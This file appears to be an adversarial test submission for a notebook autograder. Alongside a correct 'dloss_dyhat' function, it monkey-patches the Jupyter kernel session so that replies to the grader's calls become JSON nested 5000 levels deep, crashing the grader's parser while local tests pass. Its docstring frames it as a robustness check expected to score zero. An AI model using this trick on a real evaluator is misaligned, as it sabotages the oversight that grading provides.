"""Answer every call of the grader with an execute reply nesting five thousand levels.

Replaces the ``dloss_dyhat`` cell of ``02_scalar_wrt_vector`` (uses ``np`` from the setup
cell): ``dloss_dyhat`` is right, but the kernel's session is made to pack every reply that
carries user expressions -- the grader's calls -- as JSON nesting 5000 lists. Reading it, the
grading process's JSON parser ran out of recursion. The notebook's own test cells pass. Must
earn 0 everywhere (the grader cannot read a reply, and says so), flagged as a disagreement,
and cost no one else.
"""
# ruff: noqa: F821

_session = get_ipython().kernel.session
_real_pack = _session.pack


def _pack(content):
    if isinstance(content, dict) and content.get("user_expressions"):
        return b'{"status": "ok", "user_expressions": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    return _real_pack(content)


_session.pack = _pack


def dloss_dyhat(y, yhat):
    return (yhat - y)[:, None, :]
